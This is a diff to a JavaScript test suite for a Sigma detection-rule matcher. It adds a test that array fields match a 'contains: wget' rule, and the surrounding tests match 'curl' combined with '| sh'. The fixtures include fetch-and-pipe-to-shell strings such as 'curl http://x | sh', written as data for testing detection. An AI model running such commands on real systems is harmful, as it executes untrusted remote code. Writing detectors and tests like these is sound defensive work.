@@ -52,6 +52,12 @@ describe('Sigma selections and values', () => {
     expect([e({ f: 'the end' }), e({ f: 'endless' })]).toEqual([true, false]);
   });
 
+  it('array fields match when any element matches', () => {
+    const m = matcher(`sel:\n    process.args|contains: wget\ncondition: sel`);
+    expect(m({ 'process.args': ['bash', '-c', 'WGET http://x'] })).toBe(true);
+    expect(m({ 'process.args': ['bash', '-c', 'ls'] })).toBe(false);
+  });
+
   it('all turns a value list into AND', () => {
     const m = matcher(`sel:\n    f|contains|all:\n        - curl\n        - '| sh'\ncondition: sel`);
     expect(m({ f: 'curl http://x | sh' })).toBe(true);
